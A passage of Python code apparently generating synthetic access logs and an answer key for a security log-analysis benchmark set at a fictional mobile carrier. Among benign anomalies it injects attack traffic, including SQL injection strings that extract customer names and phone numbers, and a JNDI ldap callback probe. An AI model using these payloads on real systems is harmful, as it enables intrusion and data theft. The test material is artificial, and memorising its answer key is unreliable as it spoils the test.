            p = r.choice(self.office["support"])
            bo(p, 15 + r.random(), "GET", "/kyc/queue?page=1", 403) if self.here(p, k) else None

    def dealer_day(self, k: int) -> None:
        """The partners' offices on the extranet."""
        r, d, ref = self.r, self.days[k], "https://dealer.setomobile.example/dealer/"
        for p in self.managers:
            if not self.here(p, k):
                continue
            self.duty[p.user, k] = (p.start, p.end)
            ip, start = p.ip or "", p.start + r.random()
            if r.random() < 0.06:
                ip = self.cgnat()  # on the train
            self.sign_in("dealer", p, k, start, ip, "/dealer/login", "")
            for h in self.spread(self.heavy(10 * self.load(k, "dealer")), start + 0.05, p.end):
                u = r.choice(
                    [
                        "/dealer/commission",
                        "/dealer/news?id=%d" % r.randrange(80, 120),
                        "/dealer/stock",
                        "/dealer/customers?page=%d" % r.randrange(1, 5),
                        f"/dealer/customers/{self.client_of(p.user[2:5])}",
                        f"/dealer/customers/{self.client_of(p.user[2:5])}",
                    ]
                )
                self.add("dealer", self.at(k, h), ip, p.user, "GET", u, ua=p.ua, ref=ref)
            if (d.day in (1, 2, 3) or d.day >= 28) and r.random() < 0.6:
                self.add(
                    "dealer",
                    self.at(k, r.uniform(10, 17)),
                    ip,
                    p.user,
                    "GET",
                    f"/dealer/export/expiring.csv?shop={p.user[2:5]}",
                    200,
                    r.randrange(40_000, 120_000),
                    ua=p.ua,
                    ref=ref,
                )
        for _ in range(self.heavy(8)):
            self.add(
                "dealer",
                self.at(k, r.uniform(0, 24)),
                self.hosting(),
                None,
                "GET",
                r.choice(NOISE),
                404,
                ua=r.choice(["-", "curl/8.5.0", CHROME.format(v=103)]),
            )
        for j in range(96):
            self.add(
                "dealer",
                self.at(k, j / 4 + 0.01),
                "10.10.0.9",
                None,
                "GET",
                "/dealer/ping",
                200,
                2,
                ua="check_http/v2.3 (monitoring-plugins 2.3)",
            )

    def portal_session(
        self,
        k: int,
        hour: float,
        c: int,
        ip: str,
        ua: str,
        fails: int = 0,
        pages: list[str] | None = None,
    ) -> str:
        """A customer signs in and looks at his own contract."""
        r, t, u, sess, ref = (
            self.r,
            self.at(k, hour),
            f"c{c}",
            self.sid(),
            "https://my.setomobile.example/my/login",
        )
        self.add(
            "portal", t, ip, None, "GET", "/my/login", ua=ua, ref="https://www.setomobile.example/"
        )
        for _ in range(fails):
            t += timedelta(seconds=r.randrange(8, 60))
            self.add("portal", t, ip, u, "POST", "/my/login", 401, ua=ua, ref=ref)
        t += timedelta(seconds=r.randrange(6, 40))
        self.add("portal", t, ip, u, "POST", "/my/login", 302, ua=ua, ref=ref, sess=sess)
        month = self.days[k].replace(day=1) - timedelta(days=r.choice([3, 3, 3, 40]))
        menu = [
            f"/my/contracts/{c}/bills/{month:%Y%m}.pdf",
            f"/my/contracts/{c}/usage",
            "/my/points",
            "/my/news",
            f"/my/contracts/{c}/bills/{month:%Y%m}.pdf",
        ]
        for path in [f"/my/contracts/{c}"] + (
            pages if pages is not None else r.sample(menu, r.choice([0, 1, 1, 2, 3]))
        ):
            t += timedelta(seconds=r.randrange(3, 90))
            method, path = path.split(" ") if " " in path else ("GET", path)
            self.add(
                "portal", t, ip, u, method, path, 302 if method == "POST" else 200, ua=ua, sess=sess
            )
        return sess

    def portal_day(self, k: int) -> None:
        """Customers, mostly from the carrier's own mobile network."""
        r, d = self.r, self.days[k]
        for _ in range(self.heavy(230 * self.load(k, "portal"), 60)):
            c = self.contract()
            home, ua = self.customer(c)
            hour = r.choice(
                [
                    r.uniform(7, 9),
                    r.uniform(12, 13),
                    r.uniform(9, 24),
                    r.uniform(18, 23.8),
                    r.uniform(0, 24),
                ]
            )
            fails = r.choice([1, 1, 1, 2, 3, 4]) if r.random() < 0.08 else 0
            x = r.random()
            pages = None
            if x < 0.006:
                pages = ["/my/mnp", "/my/mnp/confirm", "POST /my/mnp/reserve"]
            elif x < 0.02:
                pages = ["/my/profile", "POST /my/profile/email"]
            if fails > 2:
                self.add(
                    "portal",
                    self.at(k, hour - 0.02),
                    home,
                    f"c{c}",
                    "POST",
                    "/my/password/reset",
                    302,
                    ua=ua,
                )
            self.portal_session(
                k,
                hour,
                c,
                self.cgnat() if "Mobile" in ua and r.random() < 0.7 else home,
                ua,
                fails,
                pages,
            )
        for _ in range(self.heavy(9)):  # a link in a mail, signed out
            home, ua = self.customer(c := self.contract())
            self.add(
                "portal",
                self.at(k, r.uniform(7, 24)),
                home,
                None,
                "GET",
                f"/my/contracts/{c}/bills/{d - timedelta(days=31):%Y%m}.pdf",
                302,
                ua=ua,
            )
        for j in range(96):
            t, sess = j / 4 + 0.05, f"mon{k:04d}{j:03d}"
            self.add(
                "portal",
                self.at(k, t),
                "10.10.0.9",
                "c-monitor",
                "POST",
                "/my/login",
                302,
                ua="Blackbox-Probe/0.25",
                sess=sess,
            )
            self.add(
                "portal",
                self.at(k, t + 0.001),
                "10.10.0.9",
                "c-monitor",
                "GET",
                "/my/contracts/40999999",
                200,
                8120,
                ua="Blackbox-Probe/0.25",
                sess=sess,
            )
        if d.day in (5, 20) or d.weekday() == 0:  # a company's administrator goes through its lines
            base = FIRST_CONTRACT + 12_000
            sess, ip = self.sid(), "153.142.77.20"
            self.add(
                "portal",
                self.at(k, 9.6),
                ip,
                "corp-0231",
                "POST",
                "/my/login",
                302,
                ua=DESKS[1],
                sess=sess,
            )
            for j in range(r.randrange(35, 62)):
                self.add(
                    "portal",
                    self.at(k, 9.62 + j * 0.012),
                    ip,
                    "corp-0231",
                    "GET",
                    f"/my/contracts/{base + j}",
                    ua=DESKS[1],
                    sess=sess,
                )

    def www_day(self, k: int) -> None:
        """The public site: visitors, crawlers, the noise of the internet."""
        r = self.r
        for _ in range(self.heavy(130 * self.load(k, "portal"), 40)):
            ip, ua, h = (
                self.home() if r.random() < 0.6 else self.cgnat(),
                r.choice(PHONES + DESKS),
                r.choice([r.uniform(0, 24), r.uniform(8, 23)]),
            )
            for j in range(r.choice([1, 1, 2, 3, 5])):
                self.add(
                    "www",
                    self.at(k, h + j * r.uniform(0.003, 0.02)),
                    ip,
                    None,
                    "GET",
                    r.choice(WWW_PAGES),
                    ua=ua,
                    size=r.randrange(8000, 60000),
                )
        big = 6 if self.crawl == k else 1
        for j in range(self.heavy(60, 30) * big):
            self.add(
                "www",
                self.at(k, r.uniform(0, 24)),
                f"66.249.79.{r.randrange(2, 30)}",
                None,
                "GET",
                r.choice(WWW_PAGES),
                ua=GOOGLEBOT,
            )
        for j in range(self.heavy(30)):
            bot = r.choice(OTHER_BOTS + [("40.77.167.12", BINGBOT)])
            self.add(
                "www",
                self.at(k, r.uniform(0, 24)),
                bot[0],
                None,
                "GET",
                r.choice(WWW_PAGES + ["/robots.txt"]),
                ua=bot[1],
            )
        for _ in range(self.heavy(5, 2)):
            ip, h, ua = (
                self.hosting(),
                r.uniform(0, 24),
                r.choice(
                    [
                        "Mozilla/5.0",
                        "python-requests/2.31.0",
                        "Go-http-client/1.1",
                        "zgrab/0.x",
                        CHROME.format(v=103),
                    ]
                ),
            )
            for j, path in enumerate(r.sample(NOISE, r.choice([1, 1, 2, 3, 9]))):
                self.add(
                    "www",
                    self.at(k, h + j * 0.0006),
                    ip,
                    None,
                    "GET",
                    path,
                    r.choice([404, 404, 403]),
                    162,
                    ua=ua,
                )

    def background(self) -> None:
        """All usual days and the annoyances in them."""
        shops = sorted(self.clerks)
        for k in range(self.n):
            for shop in shops:
                self.shop_day(shop, k)
            self.callcentre_day(k)
            self.office_day(k)
            self.dealer_day(k)
            self.portal_day(k)
            self.www_day(k)
        self.single_annoyances()
        # planned maintenance of the portal in the night before Wednesday; a deploy of the call centre's system early in the morning
        t0, t1 = self.at(self.maintenance, 1.0), self.at(self.maintenance, 5.0)
        self.rewrite(
            "portal", lambda x: x._replace(status=503, size=512, sess=None) if t0 <= x.t < t1 else x
        )
        d0, d1 = self.at(self.deploy, 5.5), self.at(self.deploy, 5.6)
        self.rewrite(
            "callcentre", lambda x: x._replace(status=502, size=157) if d0 <= x.t < d1 else x
        )

    def rewrite(self, site: str, change: Callable[[Row], Row | None]) -> int:
        """Change or drop lines of a site; the number of those that changed."""
        out, changed = [], 0
        for row in self.rows[site]:
            new = change(row)
            changed += new is not row
            if new is not None:
                out.append(new)
        self.rows[site] = out
        return changed

    def free(
        self, people: Iterable[Person], k: int | None = None, days: Iterable[int] = ()
    ) -> Person:
        """Somebody without another part: at work on day k; at work on many of the days."""
        ok = [
            p
            for p in people
            if p.user not in self.used
            and p.left is None
            and (k is None or (p.user, k) in self.duty)
        ]
        worked = {p.user: sum((p.user, d) in self.duty for d in days) for p in ok}
        p = self.r.choice([p for p in ok if worked[p.user] * 10 >= max(worked.values()) * 8])
        self.used.add(p.user)
        return p

    def single_annoyances(self) -> None:
        """The annoyances of single persons, and the notes on all of them."""
        r, n = self.r, self.n
        shop_ids = [f"shop-{s}" for s in sorted(self.clerks)]
        near = [
            k
            for k in range(15, n)
            if self.days[k].day <= 2 or (self.days[k] + timedelta(days=2)).day <= 2
        ]
        for k in (k for k in near if k - 1 not in near):
            self.note(
                k,
                k + 3,
                ["backoffice", "dealer"],
                [
                    p.user
                    for p in self.office["billing"] + self.office["dealer-mgmt"] + self.managers
                ],
                "Month-end work in billing and in the partners' offices: twice the records, more exports.",
                "It is like this every month, for all of them.",
            )
        for k in (
            k
            for k in range(15, n - 1)
            if self.days[k + 1] in HOLIDAYS
            and self.days[k] not in HOLIDAYS
            and self.days[k].weekday() < 5
        ):
            self.note(
                k,
                k,
                ["backoffice"],
                [
                    p.user
                    for p in self.office["billing"] + self.office["mnp"] + self.office["identity"]
                ],
                "Overtime in the back office until eight or nine.",
                "The evening before a holiday; many of them together.",
            )
        self.note(
            self.trainee_from,
            self.trainee_from + 7,
            ["callcentre"],
            [self.trainee.user],
            "A new agent reads old cases from the training page all day.",
            "Joined that day (people list), reads to learn; the training page refers to them.",
        )
        self.note(
            self.audit,
            self.audit + 4,
            ["backoffice"],
            [self.auditor.user],
            "An auditor's week: an account never seen before reads applications and contracts.",
            "Announced: stands in the people list with its dates and in the list of rights.",
        )
        self.note(
            self.move,
            n - 1,
            [f"shop-{self.moving_shop}"],
            [p.user for p in self.clerks[self.moving_shop]],
            "A shop moves: opens at one o'clock and has new terminal addresses from then on.",
            "All of its people move together, same work.",
        )
        self.note(
            0,
            n - 1,
            ["shop-005"],
            [self.helper.user],
            "A clerk of shop 003 works at shop 005 on Tuesdays.",
            "Same partner company, every Tuesday from the first.",
        )
        self.note(
            self.maintenance,
            self.maintenance,
            ["portal"],
            ["portal"],
            "Portal answers 503 from 01:00 to 05:00.",
            "Planned maintenance in the night.",
        )
        self.note(
            self.campaign,
            self.campaign + 2,
            ["portal", "www"] + shop_ids,
            ["portal", "www"],
            "A new phone goes on sale: half as many customers again.",
            "Everybody has more, the campaign was known.",
        )
        self.note(
            self.storm,
            self.storm,
            ["callcentre"] + shop_ids,
            ["callcentre"],
            "A storm: shops close at three, the call centre has almost twice the calls.",
            "The weather; all sites together.",
        )
        self.note(
            0,
            n - 1,
            ["callcentre"],
            [p.user for p in self.night],
            "The night desk for lost phones reads records at three in the morning, more before holidays.",
            "Its work, each night.",
        )
        self.note(
            0,
            n - 1,
            ["backoffice"],
            ["SETO\\svc-mnp"],
            "A batch account reads ninety to two hundred contracts at two in the night, more on the first of a month.",
            "A program, same address and agent every night.",
        )
        self.note(
            0,
            n - 1,
            ["portal"],
            ["c-monitor", "10.10.0.9"],
            "The monitoring signs in to the portal every quarter of an hour and opens one contract.",
            "A test contract of the monitoring.",
        )
        self.note(
            0,
            n - 1,
            ["portal"],
            [f"103.250.44.{16 + j}" for j in range(16)],
            "Hundreds of customers and their typing errors come from sixteen addresses.",
            "The carrier's own mobile network.",
        )
        self.note(
            0,
            n - 1,
            ["portal"],
            ["corp-0231"],
            "A customer opens some fifty consecutive contracts on Mondays.",
            "The administrator of a company, its own lines, since ever.",
        )
        self.note(
            self.crawl,
            self.crawl,
            ["www"],
            ["www"],
            "Googlebot crawls six times as much.",
            "Welcome, only public pages.",
        )
        self.note(
            self.rush,
            self.rush + 2,
            ["backoffice"],
            [p.user for p in self.office["identity"] + self.office["mnp"]],
            "Identity checks and number portability have much more to do for three days.",
            "A rival raised its prices; the whole team.",
        )
        self.note(
            self.deploy,
            self.deploy,
            ["callcentre"],
            ["callcentre"],
            "Some 502 at half past five.",
            "Restart for a release.",
        )
        self.note(
            self.opening,
            self.opening + 2,
            [f"shop-{NEW_SHOP}"],
            [p.user for p in self.clerks[NEW_SHOP]],
            "A new shop opens with new accounts and many customers.",
            "In the roster with that date.",
        )
        self.note(
            self.back_from,
            self.back_from + 6,
            ["backoffice"],
            [self.back.user],
            "An account unseen for weeks comes back and reads a lot.",
            "Back from parental leave, reads up on the history of cases.",
        )
        self.note(
            self.stock,
            self.stock + 3,
            ["backoffice"],
            [p.user for p in self.office["identity"][1:4]],
            "Three checkers go through three-year-old applications and purge them.",
            "Yearly deletion; each is followed by its purge.",
        )
        self.note(
            0,
            n - 1,
            ["www", "dealer"],
            ["www", "dealer"],
            "Scanners ask for .env, wp-login and the like, some a day.",
            "They get 403 and 404, as every day.",
        )
        self.note(
            self.doubled[0],
            self.doubled[0],
            [f"shop-{self.doubled[1]}"],
            [f"shop-{self.doubled[1]}"],
            "A shop delivers the same file twice.",
            "The transfer was repeated; same lines.",
        )
        self.used |= {p.user for p in self.office["identity"][1:4]}
        # a complaint: a supervisor opens the same contract for four days, notes each call
        k = self.weekday(17, n - 5)
        boss, c = self.agents[0], self.contract()
        self.used.add(boss.user)
        for j in range(4):
            if (boss.user, k + j) in self.duty:
                for _ in range(r.randrange(3, 6)):
                    s, e = self.duty[boss.user, k + j]
                    self.call(
                        boss, k + j, r.uniform(s + 0.5, e - 1), boss.ip or "", self.sid(), c, True
                    )
        self.note(
            k,
            k + 3,
            ["callcentre"],
            [boss.user],
            "A supervisor opens one customer's record again and again.",
            "A complaint; every look has a call and its note.",
        )
        # a customer who forgot his password
        k, c = r.randrange(15, n), self.contract()
        home, ua = self.customer(c)
        self.portal_session(k, 21.2, c, home, ua, fails=9)
        self.add(
            "portal", self.at(k, 21.3), home, f"c{c}", "POST", "/my/password/reset", 302, ua=ua
        )
        self.note(
            k,
            k,
            ["portal"],
            [f"c{c}", home],
            "Nine wrong passwords, then the right one.",
            "One customer at home, own phone, own contract.",
        )
        # the star comes to the shop himself
        k, shop = self.weekday(16, n - 2), "001"
        p = self.free(self.clerks[shop], None)
        for kk in range(k, n):
            if (p.user, kk) in self.duty:
                self.visit(
                    shop,
                    p,
                    kk,
                    (self.duty[p.user, kk][0] + self.duty[p.user, kk][1]) / 2,
                    "10.31.1.11",
                    self.sid(),
                    self.vips[2],
                    True,
                    False,
                )
                self.note(
                    kk,
                    kk,
                    ["shop-001"],
                    [p.user],
                    "A clerk opens the record of a watched person.",
                    "He renewed his contract at the counter: identity check and order follow.",
                )
                break
        # an agent at home whose line gets a new address
        p = next(
            a
            for a in self.agents
            if a.ip not in (self.agents[0].ip, self.agents[1].ip)
            and a.user not in self.used
            and not a.left
        )
        self.used.add(p.user)
        k, new = r.randrange(15, n - 2), self.home()
        t = self.at(k, 0)
        self.rewrite(
            "callcentre", lambda x: x._replace(ip=new) if x.user == p.user and x.t >= t else x
        )
        self.note(
            k,
            n - 1,
            ["callcentre"],
            [p.user],
            "An agent who works at home comes from another address.",
            "Router restarted; same browser, same hours, calls noted.",
        )

    # ---------------------------------------------------------------- incidents
    def tell(
        self,
        grade: str,
        family: str,
        days: Iterable[int],
        sites: list[str],
        actors: list[str],
        what: str,
        how: str,
        lines: int | None = None,
        woken: bool = True,
    ) -> None:
        """An incident for truth.json."""
        ks = sorted(days)
        self.busy |= {(site, self.days[k]) for site in sites for k in ks}
        self.incidents.append(
            {
                "id": "",
                "grade": grade,
                "family": family,
                "first_day": str(self.days[ks[0]]),
                "last_day": str(self.days[ks[-1]]),
                "site_ids": sites,
                "actors": actors,
                "what": what,
                "how_seen": how,
                "lines": self.seq - self.mark if lines is None else lines,
                "woken": woken,
            }
        )

    def day(self, site: str, span: int = 1, office: bool = False) -> int:
        """A first day for an incident of `span` days, mostly in the second half, preferably when nothing else happens on the site."""
        for attempt in range(40):
            lo = max(14, self.n // 2) if self.r.random() < 0.8 else 14
            hi = max(14, self.n - span)
            k = self.weekday(min(lo, hi - 3), hi) if office else self.r.randint(min(lo, hi), hi)
            first = [self.days[k], self.days[min(self.n - 1, k + min(span, 2) - 1)]]
            if not any((site, d) in self.busy for d in first) and (
                attempt > 15 or sum(d == first[0] for _, d in self.busy) < 2
            ):
                break
        return k

    def working(self, p: Person, first: int, span: int) -> list[int]:
        """The days from `first` on which p works."""
        return [k for k in range(first, min(self.n, first + span)) if (p.user, k) in self.duty]

    def look(
        self,
        p: Person,
        k: int,
        hour: float,
        path: str,
        site: str = "",
        ip: str = "",
        sess: str | None = None,
        method: str = "GET",
        size: int | None = None,
    ) -> None:
        """A request of p, in his own session of that day unless another is given."""
        site = site or p.site
        own = self.sessions.get((p.user, self.at(k, hour).date(), site), (p.ip or "", None))
        self.add(
            site,
            self.at(k, hour),
            ip or own[0],
            p.user,
            method,
            path,
            302 if path.endswith("/login") else 200,
            size,
            p.ua,
            None,
            sess or own[1],
        )

    def old(self, k: int, lo: int, hi: int) -> str:
        """An application that came in lo to hi days before day k."""
        return f"A{self.days[k] - timedelta(days=self.r.randrange(lo, hi)):%y%m%d}{self.r.randrange(1, 200):04d}"

    def image(
        self, p: Person, k: int, hour: float, number: str, side: str = "front", ip: str = ""
    ) -> None:
        """A look at an identity document."""
        self.look(
            p,
            k,
            hour,
            f"/kyc/image?no={number}&side={side}",
            ip=ip,
            size=self.r.randrange(180_000, 900_000),
        )

    def e_export(self) -> None:
        """A partner takes all shops' lists on a Sunday evening."""
        k, p, ip = (
            self.r.choice([k for k in range(14, self.n) if self.days[k].weekday() == 6][-3:]),
            self.free(self.managers),
            self.home(),
        )
        self.look(p, k, 21.1, "/dealer/login", ip=ip, method="POST")
        for j in range(1, 17):
            self.look(
                p,
                k,
                21.12 + j * 0.02,
                f"/dealer/export/expiring.csv?shop={j:03d}",
                ip=ip,
                size=self.r.randrange(250_000, 900_000),
            )
        self.tell(
            "easy",
            "export",
            [k],
            ["dealer"],
            [p.user, ip],
            "A partner's manager downloads the customer lists of all sixteen shops from home on a Sunday evening.",
            "Sixteen exports in twenty minutes where there was one a month of the own shop; no work on Sundays; new address.",
        )

    def e_stuffing(self) -> None:
        """Lists of stolen passwords are tried on the portal."""
        nights = 1 if self.n < 50 else 6
        k0, hits, ips = self.day("portal", nights + 4), [], []
        ks = [k0 + j + (j > 2) for j in range(nights)]
        for k in ks:
            for _ in range(3 if nights == 1 else 2):
                ip, ua, t = (
                    self.hosting(),
                    self.r.choice(DESKS),
                    self.at(k, self.r.random() + (5.3 if k == self.maintenance else 1.8)),
                )
                ips.append(ip)
                for _ in range(self.r.randrange(110, 190)):
                    t += timedelta(seconds=self.r.uniform(1.5, 12))
                    c, ok, sess = self.contract(), self.r.random() < 0.014, self.sid()
                    self.add(
                        "portal",
                        t,
                        ip,
                        f"c{c}",
                        "POST",
                        "/my/login",
                        302 if ok else 401,
                        ua=ua,
                        sess=sess if ok else None,
                    )
                    if ok:
                        hits.append(f"c{c}")
                        self.add(
                            "portal",
                            t + timedelta(seconds=2),
                            ip,
                            f"c{c}",
                            "GET",
                            f"/my/contracts/{c}",
                            ua=ua,
                            sess=sess,
                        )
        self.tell(
            "easy",
            "login",
            ks,
            ["portal"],
            ips + hits,
            "Stolen pairs of names and passwords are tried on the portal; some open.",
            "A few addresses fail on hundreds of accounts at night; the few that opened showed a contract at once.",
        )

    def e_idor(self) -> None:
        """A customer counts up the contract numbers."""
        k, c, h = self.day("portal"), self.contract(), 22.5
        home, ua = self.customer(c)
        sess, first = (
            self.portal_session(k, 22.4, c, home, ua, pages=[]),
            FIRST_CONTRACT + self.r.randrange(500, 25_000),
        )
        self.mark = self.seq
        for j in range(self.r.randrange(160, 260)):
            h += self.r.uniform(0.0004, 0.0012)
            self.add(
                "portal",
                self.at(k, h),
                home,
                f"c{c}",
                "GET",
                f"/my/contracts/{first + j}",
                ua=ua,
                sess=sess,
            )
        self.tell(
            "easy",
            "outsider",
            [k],
            ["portal"],
            [f"c{c}", home],
            "A signed-in customer counts up contract numbers and is shown other people's contracts.",
            "One customer account, some two hundred consecutive foreign contracts, all answered 200.",
        )

    def e_leaver(self) -> None:
        """The account of an agent who left is used."""
        p, ip, many = self.r.choice(self.gone), self.home(), self.n > 50
        k0 = max(16, self.day("callcentre", 13 if many else 3))
        ks = [k0 + j for j in ((0, 2, 3, 6, 9, 11) if many else (0, 1))]
        for k in ks:
            sess, h = self.sid(), 20.4 + self.r.random()
            self.look(p, k, h, "/cc/login", ip=ip, sess=sess, method="POST")
            for _ in range(self.r.randrange(12, 26)):
                h += self.r.uniform(0.005, 0.04)
                self.look(p, k, h, f"/cc/customer/{self.contract()}", ip=ip, sess=sess)
        self.tell(
            "easy",
            "other",
            ks,
            ["callcentre"],
            [p.user, ip],
            "The account of an agent who has left is used in the evening and reads customers.",
            "The people list says when he left; the account signs in afterwards, from an address of its own, without calls.",
        )

    def e_silent(self) -> None:
        """A shop's logs stop."""
        shop = self.r.choice(
            [
                s
                for s in ("001", "002", "004", "010", "006", "012", "015")
                if not any(x == f"shop-{s}" for x, _ in self.busy)
            ]
        )
        ks = [
            k
            for k in range(self.day(f"shop-{shop}", 4), self.n)
            if not self.closed(shop, k) and k != self.doubled[0]
        ][:2]
        ds = {self.days[k] for k in ks}
        gone = self.rewrite(f"shop-{shop}", lambda x: None if x.t.date() in ds else x)
        self.tell(
            "easy",
            "silence",
            ks,
            [f"shop-{shop}"],
            [f"shop-{shop}"],
            f"The counter gateway of shop {shop} writes or sends nothing for two days.",
            f"No line of the shop, though it is open and stands in the roster (some {gone} lines would be usual).",
            0,
        )

    def e_sqli(self) -> None:
        """SQL injection on the extranet that works in the end."""
        k, ip, h = self.day("dealer"), self.hosting(), self.r.uniform(0.5, 22)
        tries = [
            "80%27",
            "80%27%20AND%201=1--%20",
            "80%20AND%20SLEEP(5)",
            "80%27%20OR%20%271%27=%271",
            "80%20ORDER%20BY%20{j}--",
            "80%20UNION%20SELECT%20NULL,NULL--",
            "-1%20UNION%20ALL%20SELECT%20NULL,CONCAT(name,0x3a,tel),NULL%20FROM%20customers%20LIMIT%20{j}00,100--",
        ]
        for j in range(150):
            h, late = h + self.r.uniform(0.0005, 0.003), j > 110
            path = (tries[6] if late else self.r.choice(tries[:6])).replace("{j}", str(j % 40))
            self.add(
                "dealer",
                self.at(k, h),
                ip,
                None,
                "GET",
                f"/dealer/news?id={path}",
                200 if late else self.r.choice([500, 500, 200, 302]),
                self.r.randrange(60_000, 90_000) if late else None,
                ua="sqlmap/1.8.4#stable (https://sqlmap.org)"
                if self.r.random() < 0.5
                else CHROME.format(v=120),
            )
        self.tell(
            "easy",
            "web",
            [k],
            ["dealer"],
            [ip],
            "SQL injection on the extranet's news page, at last with answers of the customers table.",
            "UNION SELECT in the address, first 500, then forty answers of 60 to 90 kB.",
        )

    def e_errors(self) -> None:
        """Number portability fails for hours."""
        k = self.day("backoffice", office=True)
        t0, t1 = self.at(k, 10 + self.r.random()), self.at(k, 14 + self.r.random() * 2)
        bad = self.rewrite(
            "backoffice",
            lambda x: (
                x._replace(status=500, size=3026)
                if t0 <= x.t < t1 and "/mnp/" in x.target and x.seq % 8
                else x
            ),
        )
        self.tell(
            "easy",
            "errors",
            [k],
            ["backoffice"],
            ["backoffice"],
            "Number portability answers 500 for hours on a working day.",
            "Seven of eight requests to /mnp/ are 500 from ten o'clock until the afternoon; other pages work.",
            bad,
        )

    def e_probe(self) -> None:
        """A lone probe for the record."""
        k, ip = self.day("www"), self.hosting()
        bait = "${jndi:ldap://" + ip + ":1389/a}"
        for j, (site, path) in enumerate(
            [("portal", "/my/login"), ("portal", "/"), ("www", "/support/faq")]
        ):
            self.add(
                site,
                self.at(k, 5.4 + j * 0.001),
                ip,
                None,
                "GET",
                f"{path}?x={bait}",
                [400, 404, 404][j],
                ua=bait,
            )
        self.tell(
            "easy",
            "web",
            [k],
            ["portal", "www"],
            [ip],
            "Three requests with a JNDI string, refused.",
            "The string stands in query and agent; 400 and 404.",
            woken=False,
        )

    def m_night(self) -> None:
        """A checker reads identity documents at night."""
        k = self.day("backoffice", 2, office=True)
        p, h = (
            self.free(self.office["identity"][4:], k),
            self.r.choice([1.7, 22.9, 25.6 if k < self.n - 1 else 2.2]),
        )
        ip, first = (
            p.ip if (p.ip or "").startswith("10.40") else f"10.40.1.{self.r.randrange(10, 90)}",
            k + int(h // 24),
        )
        for _ in range(self.r.randrange(30, 42)):
            h, a = h + self.r.uniform(0.015, 0.05), self.old(k, 1, 20)
            self.look(p, k, h, f"/kyc/application?no={a}", ip=ip or "")
            self.image(p, k, h + 0.004, a, ip=ip or "")
        self.tell(
            "medium",
            "hours",
            {first, min(self.n - 1, k + int(h // 24))},
            ["backoffice"],
            [p.user],
            "A checker opens identity documents from the VPN in the middle of the night.",
            "Never at work at that hour; applications and images without a single decision.",
        )

    def m_other_shop(self) -> None:
        """A clerk reads another company's customers."""
        own, other = self.r.choice(
            [("006", "009"), ("013", "007"), ("012", "006"), ("015", "014"), ("016", "011")]
        )
        k0 = self.day(f"shop-{other}", 16)
        p = self.free((x for x in self.clerks[own] if x.start < 10), days=range(k0, k0 + 16))
        ks = [k for k in self.working(p, k0, 16) if not self.closed(other, k) and k != self.storm][
            ::2
        ][:6]
        for k in ks:
            s, e = self.duty[p.user, k]
            h, ip, sess = (
                self.r.uniform(s + 0.5, e - 1),
                self.sessions[p.user, self.days[k], p.site][0],
                self.sid(),
            )
            self.look(p, k, h, "/counter/login", f"shop-{other}", ip, sess, "POST")
            for _ in range(self.r.randrange(4, 9)):
                h += self.r.uniform(0.01, 0.05)
                self.look(
                    p,
                    k,
                    h,
                    f"/counter/contracts/{self.client_of(other)}",
                    f"shop-{other}",
                    ip,
                    sess,
                )
        self.tell(
            "medium",
            "other_site",
            ks,
            [f"shop-{other}"],
            [p.user],
            f"A clerk of shop {own} signs in at shop {other}, of another partner, and reads its customers.",
            "Account and terminal address of one shop on the gateway of another company's shop; no search, no order.",
        )

    def m_hijack(self) -> None:
        """A customer's session is used by somebody else."""
        k, c, ip, h = self.day("portal"), self.contract(), self.hosting(), self.r.uniform(13, 21)
        home, ua = self.customer(c)
        sess = self.portal_session(k, h, c, home, ua, pages=["/my/points"])
        self.mark = self.seq
        for j, path in enumerate(
            [
                f"/my/contracts/{c}",
                f"/my/contracts/{c}/usage",
                "/my/profile",
                "POST /my/profile/email",
                "/my/mnp",
                "POST /my/mnp/reserve",
            ]
        ):
            method, target = path.split(" ") if " " in path else ("GET", path)
            self.add(
                "portal",
                self.at(k, h + 0.4 + j * 0.01),
                ip,
                f"c{c}",
                method,
                target,
                302 if method == "POST" else 200,
                ua=DESKS[2] if "Mobile" in ua else PHONES[4],
                sess=sess,
            )
        self.tell(
            "medium",
            "session",
            [k],
            ["portal"],
            [f"c{c}", ip],
            "A customer's session is taken over: mail address changed, number portability reserved.",
            "The same session cookie from another address and browser half an hour later, without a log-in.",
        )

    def m_spray(self) -> None:
        """Few passwords on many dealer accounts, spread over days."""
        span, ua, ips, ip = (
            8 if self.n > 50 else 5,
            "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
            [],
            "",
        )
        k0, victim = self.day("dealer", span), self.free(self.managers)
        names = [p.user for p in self.managers if p is not victim] + [
            p.user for s in ("003", "006", "009", "013") for p in self.clerks[s][:3]
        ]
        for k in range(k0, k0 + span):
            for user in self.r.sample(names, self.r.randrange(4, 8)):
                ips.append(ip := self.home())
                self.add(
                    "dealer",
                    self.at(k, self.r.uniform(0, 23.5)),
                    ip,
                    user,
                    "POST",
                    "/dealer/login",
                    401,
                    ua=ua,
                )
        for j, path in enumerate(
            ["/dealer/login"] + [f"/dealer/customers?page={j}" for j in range(1, 6)]
        ):
            self.add(
                "dealer",
                self.at(k0 + span - 1, 23.6 + j * 0.01),
                ip,
                victim.user,
                "GET" if j else "POST",
                path,
                200 if j else 302,
                ua=ua,
            )
        self.tell(
            "medium",
            "login",
            range(k0, k0 + span),
            ["dealer"],
            [victim.user, "dealer"] + ips,
            "A few tries a day on many partner accounts, each from another address; one opens at last.",
            "All with one agent that nobody there has; accounts that never use the extranet; the success at half past eleven at night, then the list of customers.",
        )

    def m_gap(self) -> None:
        """Three hours of the portal's log are missing."""
        k = self.day("portal", office=True)
        t0 = self.at(k, self.r.uniform(11, 14))
        t1 = t0 + timedelta(hours=self.r.uniform(2.6, 3.8))
        gone = self.rewrite("portal", lambda x: None if t0 <= x.t < t1 else x)
        self.tell(
            "medium",
            "silence",
            [k],
            ["portal"],
            ["portal"],
            "The portal's log lacks some three hours in the middle of a working day.",
            f"Not even the monitoring's lines stand there (some {gone} lines would be usual); before and after all is well.",
            0,
        )

    def m_leaver_collect(self) -> None:
        """Somebody who leaves soon takes lists."""
        p, span = self.leaving, 13 if self.n > 50 else 9
        ks = self.working(p, max(15, self.n - span - self.r.randrange(0, 4)), span)
        for j, k in enumerate(ks):
            s, e = self.duty[p.user, k]
            for _ in range(self.r.choice([1, 2]) + j // 3):
                self.look(
                    p,
                    k,
                    self.r.uniform(e - 1.5, e),
                    f"/export/contracts.csv?shop={self.r.randrange(1, 17):03d}",
                    size=int(self.r.lognormvariate(12.3, 0.4)),
                )
            for _ in range(self.r.randrange(4, 11)):
                self.look(
                    p, k, self.r.uniform(s + 1, e), f"/customers/detail.aspx?no={self.contract()}"
                )
        self.tell(
            "medium",
            "export",
            ks,
